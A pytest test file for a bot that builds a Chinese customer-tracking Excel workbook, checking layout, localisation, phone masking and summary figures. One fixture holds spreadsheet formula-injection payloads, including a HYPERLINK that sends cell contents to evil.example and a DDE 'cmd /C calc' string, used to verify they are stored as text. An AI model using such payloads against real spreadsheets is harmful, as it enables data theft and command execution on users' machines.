"""《意向客户跟踪表》: the .xlsx managers get with the daily summary, read back with openpyxl."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from bot.digests.tracking_sheet import DATE_FORMAT, tracking_workbook
from domain.digest import CustomerLine, DigestFacts, PersonCount, PersonDue, QuotaUse, summarize
from domain.lifecycle import Deadline, DeadlineKind
from domain.model import Channel, ExpectedPurchase, FollowUpKind, State, Team
from domain.rules import Rules
from domain.tracking import LastFollowUp, TeamReport, TrackingRow

RULES = Rules()
ZONE = RULES.zone
NOW = datetime(2026, 11, 10, 12, 30, tzinfo=UTC)  # 20:30 in Shanghai
TEAM = Team(1, "朝阳店", Channel.STORE)
NOTE = "客户说周末带家人来店里看样品"
ZH = [
    "序号",
    "客户姓名",
    "电话",
    "地址",
    "需求",
    "预计采购时间",
    "报备人",
    "报备时间",
    "最近跟进",
    "状态",
    "下一截止",
    "截止时间",
]
EN = [
    "No.",
    "Customer",
    "Phone",
    "Address",
    "Needs",
    "Expected purchase",
    "Registered by",
    "Filed at",
    "Last follow-up",
    "State",
    "Next deadline",
    "Deadline at",
]


def rows() -> list[TrackingRow]:
    return [
        TrackingRow(
            registration_id=1,
            customer_name="张三",
            phone="+8613800138000",
            address="北京市朝阳区建国路88号3栋1201",
            needs="1.8米床垫和床头柜",
            expected_purchase=ExpectedPurchase.WITHIN_MONTH,
            holder="王芳",
            filed_at=datetime(2026, 11, 9, 16, 5, 7, 123456, tzinfo=UTC),  # 00:05:07 on 10 Nov in Shanghai
            last_follow_up=LastFollowUp(FollowUpKind.CALL, NOTE, datetime(2026, 11, 10, 3, 0, tzinfo=UTC)),
            state=State.ACTIVE,
            challenging=False,
            deadline=Deadline(DeadlineKind.FOLLOW_UP, datetime(2026, 11, 13, 3, 0, tzinfo=UTC)),
        ),
        TrackingRow(
            registration_id=2,
            customer_name="李四",
            phone="+861012345678",
            address="北京市海淀区中关村大街1号",
            needs=None,
            expected_purchase=None,
            holder="刘洋",
            filed_at=NOW - timedelta(days=12),
            last_follow_up=None,
            state=State.LAPSED,
            challenging=False,
            deadline=None,
        ),
        TrackingRow(
            registration_id=3,
            customer_name="王五",
            phone="+8613900139000",
            address="北京市朝阳区光华路1号院",
            needs=None,
            expected_purchase=ExpectedPurchase.UNKNOWN,
            holder="陈静",
            filed_at=NOW - timedelta(hours=2),
            last_follow_up=None,
            state=State.PENDING_REVIEW,
            challenging=True,
            deadline=Deadline(DeadlineKind.EXPIRY, NOW + timedelta(days=15)),
        ),
    ]


def report(tracking: list[TrackingRow], **figures) -> TeamReport:
    """A report of `tracking` rows at NOW; `figures` replace the (empty) day's summary fields."""
    digest = summarize(DigestFacts(TEAM, [], [], [], [], [], {}), NOW, RULES)
    return TeamReport("zh", replace(digest, **figures), tracking)


def book(tracking: list[TrackingRow], language: str = "zh", **options) -> bytes:
    return tracking_workbook(report(tracking), language, ZONE, **options)


def open_sheet(data: bytes):
    workbook = load_workbook(BytesIO(data))
    assert len(workbook.worksheets) == 3  # the rows, the day's figures, after-sale care
    return workbook, workbook.worksheets[0]


def data_rows(sheet) -> list[list[object]]:
    return [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]


@pytest.mark.parametrize(
    ("language", "title", "headers"), [("zh", "意向客户跟踪表", ZH), ("en", "Intent customers", EN)]
)
def test_sheet_title_and_bold_headers_in_the_teams_language(
    language: str, title: str, headers: list[str]
) -> None:
    workbook, sheet = open_sheet(book(rows(), language))
    assert sheet.title == title
    assert [c.value for c in sheet[2]] == headers
    assert all(c.font.bold for c in sheet[2])
    assert "朝阳店" in workbook.properties.title and "2026-11-10" in workbook.properties.title
    assert workbook.properties.creator == "leadbot"


@pytest.mark.parametrize(
    ("language", "heading"),
    [
        ("zh", "朝阳店 意向客户跟踪表　2026-11-10　截至 20:30"),
        ("en", "朝阳店 · intent customers · 2026-11-10 · as of 20:30"),
    ],
)
def test_a_title_row_above_the_header_says_team_day_and_time(language: str, heading: str) -> None:
    _, sheet = open_sheet(book(rows(), language))
    assert sheet["A1"].value == heading  # the time is local: 12:30 UTC
    assert sheet["A1"].font.bold and sheet["A1"].font.size > sheet["A2"].font.size
    assert [str(merged) for merged in sheet.merged_cells.ranges] == ["A1:L1"]


def test_one_numbered_row_per_open_registration_with_full_details_for_managers() -> None:
    _, sheet = open_sheet(book(rows()))
    assert data_rows(sheet) == [
        [
            1,
            "张三",
            "138 0013 8000",
            "北京市朝阳区建国路88号3栋1201",
            "1.8米床垫和床头柜",
            "一个月内",
            "王芳",
            datetime(2026, 11, 10, 0, 5, 7),
            f"电话　2026-11-10 11:00\n{NOTE}",
            "跟进中",
            "跟进",
            datetime(2026, 11, 13, 11, 0),
        ],
        [
            2,
            "李四",
            "010 1234 5678",
            "北京市海淀区中关村大街1号",
            None,
            None,
            "刘洋",
            datetime(2026, 10, 29, 20, 30),
            None,
            "已超期未跟进",
            None,
            None,
        ],
        [
            3,
            "王五",
            "139 0013 9000",
            "北京市朝阳区光华路1号院",
            None,
            "不确定",
            "陈静",
            datetime(2026, 11, 10, 18, 30),
            None,
            "待审核（接手申请）",
            "量尺或下定，否则失效",
            datetime(2026, 11, 25, 20, 30),
        ],
    ]


def test_the_group_copy_masks_phones_and_leaves_out_addresses_and_notes() -> None:
    _, sheet = open_sheet(book(rows(), mask_phones=True))
    values = data_rows(sheet)
    assert [row[2] for row in values] == ["138****8000", "010-****5678", "139****9000"]
    assert [row[3] for row in values] == [None, None, None]
    assert values[0][8] == "电话　2026-11-10 11:00"  # how and when, not what was noted
    text = "\n".join(
        str(c.value)
        for s in load_workbook(BytesIO(book(rows(), mask_phones=True)))
        for r in s.iter_rows()
        for c in r
    )
    assert NOTE not in text and "0013 8000" not in text and "建国路" not in text


def test_english_words_in_cells() -> None:
    _, sheet = open_sheet(book(rows(), "en"))
    assert [sheet.cell(r, 10).value for r in (3, 4, 5)] == [
        "active",
        "lapsed",
        "pending review (takeover challenge)",
    ]
    assert sheet["F3"].value == "Within a month" and sheet["K3"].value == "follow up"
    assert sheet["I3"].value == f"call, 2026-11-10 11:00\n{NOTE}"


def test_dates_are_excel_datetimes_in_local_time() -> None:
    _, sheet = open_sheet(book(rows()))
    for column in ("H", "L"):
        cell = sheet[f"{column}3"]
        assert cell.is_date and isinstance(cell.value, datetime) and cell.value.tzinfo is None
        assert cell.number_format == DATE_FORMAT
    assert sheet["H3"].value == datetime(2026, 11, 10, 0, 5, 7)  # local, although 9 Nov in UTC


def test_frozen_below_the_header_with_an_autofilter_on_it_and_bounded_widths() -> None:
    _, sheet = open_sheet(book(rows()))
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:L5"
    # The width as typed in Excel (characters): the file holds it with Excel's padding, +0.71.
    widths = {column: int(sheet.column_dimensions[column].width) for column in "ABCDEFGHIJKL"}
    assert all(5 <= width <= 26 for width in widths.values())
    assert widths["D"] > widths["B"]  # the address is wider than a name
    assert widths["D"] == 24  # 33 characters wide (Chinese ones count double): it wraps at the bound
    assert widths["G"] == 6 + 2  # as wide as its widest text, the header 报备人 (Chinese counts double)
    assert widths["H"] >= len("2026-11-10 00:05")
    assert sum(widths.values()) <= 190  # printed one A4 page wide at about 80 %: still readable


def test_an_empty_team_still_gets_a_sheet_with_title_and_headers() -> None:
    _, sheet = open_sheet(book([]))
    assert sheet.max_row == 2 and sheet.auto_filter.ref == "A2:L2" and sheet.freeze_panes == "A3"
    assert not list(sheet.conditional_formatting)


def test_the_second_sheet_has_the_days_figures_as_the_summary_gives_them() -> None:
    line = CustomerLine(1, "王芳", "张三", "+8613800138000", NOW)
    figures = report(
        rows(),
        new_registrations=(line, line),
        follow_ups=3,
        follow_ups_by_person=(PersonCount("王芳", 2), PersonCount("", 1)),
        due_by_person=(PersonDue("刘洋", 1, 2),),
        lapsed=(line, line),
        about_to_lapse=(line,),
        pending_reviews=(line,),
        quota=(QuotaUse("李强", 3, 20),),
        unreachable=("陈静",),
    )
    workbook = load_workbook(BytesIO(tracking_workbook(figures, "zh", ZONE)))
    sheet = workbook.worksheets[1]
    assert sheet.title == "日报汇总"
    assert sheet["A1"].value == "朝阳店 每日汇总　2026-11-10　截至 20:30"
    cells = [[c.value for c in row if c.value is not None] for row in sheet.iter_rows(min_row=2)]
    assert cells == [
        ["项目", "数量"],
        ["在跟客户", 0],
        ["今日新报备", 2],
        ["今日跟进", 3],
        ["今日下定 / 成交", 0],
        ["待跟进", 1],
        ["超期未跟进，同事可接手", 2],
        ["24 小时内将失去保护", 1],
        ["48 小时内将失效", 0],
        ["今日失效", 0],
        ["今日撞单被拒", 0],
        ["疑似撞单待确认", 0],
        ["待审核的报备", 1],
        ["待审批的延期申请", 0],
        ["提醒发不出去的人（请当面提醒）", 1],
        ["今日跟进（按人）"],
        ["姓名", "次数"],
        ["王芳", 2],
        ["非在册人员", 1],
        ["待跟进 / 超期未跟进（按人）"],
        ["姓名", "待跟进", "超期未跟进"],
        ["刘洋", 1, 2],
        ["本月报备额度"],
        ["姓名", "已用", "额度"],
        ["李强", 3, 20],
        ["提醒发不出去的人（请当面提醒）"],
        ["姓名"],
        ["陈静"],
        ["《意向客户跟踪表》中：红色行已超期未跟进或已失效，黄色行待跟进。"],
    ]
    english = load_workbook(BytesIO(tracking_workbook(figures, "en", ZONE))).worksheets[1]
    assert english.title == "Summary" and english["A3"].value == "Open registrations"


# --- issue 10 item 4: no cell is ever a formula ----------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def typed_by_people(start: str) -> TrackingRow:
    """A registration whose every typed field starts with `start`, as if someone meant harm."""
    return TrackingRow(
        registration_id=9,
        customer_name=f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")',
        phone="+14155552671",  # a foreign number: shown as +1 415-555-2671
        address=f"{start}cmd|' /C calc'!A0 北京市朝阳区建国路88号",
        needs=f"{start}1+1 要1.8米床垫",
        expected_purchase=None,
        holder=f"{start}SUM(A1:A9)",
        filed_at=NOW - timedelta(hours=1),
        last_follow_up=LastFollowUp(FollowUpKind.CALL, f"{start}HYPERLINK(1)", NOW),
        state=State.ACTIVE,
        challenging=False,
        deadline=None,
    )


def sheet_xml(data: bytes) -> str:
    with ZipFile(BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("mask_phones", [False, True], ids=["full", "masked"])
def test_text_that_starts_like_a_formula_is_written_as_text(start: str, mask_phones: bool) -> None:
    data = book([typed_by_people(start), *rows()], mask_phones=mask_phones)
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    workbook = load_workbook(BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(tuple(FORMULA_STARTS)):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)  # stays text when edited
    _, sheet = open_sheet(data)
    typed = typed_by_people(start)
    row = [cell.value for cell in sheet[3]]
    shown = {
        field: value.replace("\r", "\n") for field, value in vars(typed).items() if isinstance(value, str)
    }
    assert (
        row[1] == shown["customer_name"] and row[4] == shown["needs"] and row[6] == shown["holder"]
    )  # shown as typed (a carriage return as the line break it is)
    assert row[2] == ("+1 415-555-2671" if not mask_phones else "415****2671")
    assert row[3] == (None if mask_phones else shown["address"])


def test_the_writer_every_workbook_uses_keeps_formula_looking_text_text() -> None:
    from bot.digests.print_layout import STYLES, TEXT
    from bot.digests.xlsx import Book

    book = Book(STYLES)
    sheet = book.sheet("s")
    sheet.append(["=1+1", "+2", "-3", 4, None, "plain", "@x", "a\r\nb"], TEXT)
    sheet.append_merged("=HYPERLINK(1)", TEXT, columns=3, height=20)
    data = book.close()
    assert "<f>" not in sheet_xml(data)
    cells = [*load_workbook(BytesIO(data)).active[1], load_workbook(BytesIO(data)).active["A2"]]
    values = [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells]
    assert values == [
        ("=1+1", "s", True),
        ("+2", "s", True),
        ("-3", "s", True),
        (4, "n", False),
        (None, "n", False),  # blank, but bordered like the rest
        ("plain", "s", False),
        ("@x", "s", True),
        ("a\nb", "s", False),  # a carriage return is a line break, as a spreadsheet shows it
        ("=HYPERLINK(1)", "s", True),
    ]
    assert load_workbook(BytesIO(data)).active["E1"].border.left.style == "thin"


def test_a_control_character_a_workbook_cannot_hold_does_not_fail_the_workbook() -> None:
    row = replace(rows()[0], needs="床垫\x01\x1b要大号", holder="王芳\x00")
    row = replace(row, last_follow_up=LastFollowUp(FollowUpKind.CALL, "到店\x07看了", NOW))
    _, sheet = open_sheet(book([row]))
    assert sheet["E3"].value == "床垫要大号" and sheet["G3"].value == "王芳"
    assert sheet["I3"].value.endswith("\n到店看了")
